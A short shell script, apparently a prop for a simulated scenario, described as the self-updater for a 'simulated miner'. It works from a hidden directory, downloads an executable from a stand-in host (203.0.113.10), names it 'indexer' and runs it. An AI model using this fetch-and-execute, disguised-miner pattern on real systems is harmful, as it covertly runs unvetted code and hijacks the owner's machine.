#!/bin/sh
# What the story self-updater fetches: replaces a simulated miner with the next version. There are three versions.
cd /root/.local/.share
version=$(($(cat version) + 1))
[ "$version" -le 3 ] || exit 0
echo "$version" >version
curl -fsS -o indexer.new http://203.0.113.10/agent
echo "version $version" >>indexer.new
chmod 755 indexer.new
mv indexer.new indexer
exec ./indexer -c indexer.conf
